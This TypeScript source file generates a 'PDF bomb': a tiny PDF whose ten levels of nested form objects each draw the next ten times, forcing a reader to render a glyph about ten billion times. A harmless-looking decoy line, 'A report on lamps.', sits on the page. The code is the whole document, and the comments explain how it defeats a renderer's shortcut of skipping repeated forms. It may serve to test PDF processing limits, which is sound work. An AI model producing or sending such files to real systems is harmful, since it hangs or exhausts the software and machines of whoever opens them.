/** A PDF of a few kilobytes that takes a reader for ever: forms that draw forms, each ten times the next. */

const DEPTH = 10;
const TIMES = 10;
/** A letter is drawn at the bottom: without any text a reader may skip a form that it has seen. */
const LETTER = "BT /F1 1 Tf (a) Tj ET";

export function pdfBomb(): Uint8Array<ArrayBuffer> {
  const fonts = "/Font << /F1 4 0 R >>";
  const formAt = (level: number) => 5 + level;
  const stream = (dictionary: string, content: string) =>
    `<< ${dictionary} /Length ${content.length} >>\nstream\n${content}\nendstream`;
  const objects = [
    "<< /Type /Catalog /Pages 2 0 R >>",
    "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 600 800] /Contents ${formAt(DEPTH)} 0 R /Resources << ${fonts} /XObject << /Next ${formAt(0)} 0 R >> >> >>`,
    "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ...Array.from({ length: DEPTH }, (_, level) => {
      const isLast = level === DEPTH - 1;
      const resources = isLast ? fonts : `${fonts} /XObject << /Next ${formAt(level + 1)} 0 R >>`;
      return stream(
        `/Type /XObject /Subtype /Form /BBox [0 0 600 800] /Resources << ${resources} >>`,
        isLast ? LETTER : "/Next Do ".repeat(TIMES),
      );
    }),
    stream("", "BT /F1 12 Tf 50 700 Td (A report on lamps.) Tj ET /Next Do"),
  ];
  let text = "%PDF-1.4\n";
  const offsets = objects.map((object, index) => {
    const offset = text.length;
    text += `${index + 1} 0 obj\n${object}\nendobj\n`;
    return offset;
  });
  const table = offsets.map((offset) => `${String(offset).padStart(10, "0")} 00000 n \n`).join("");
  return new Uint8Array(
    Buffer.from(
      `${text}xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${table}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${text.length}\n%%EOF\n`,
      "latin1",
    ),
  );
}
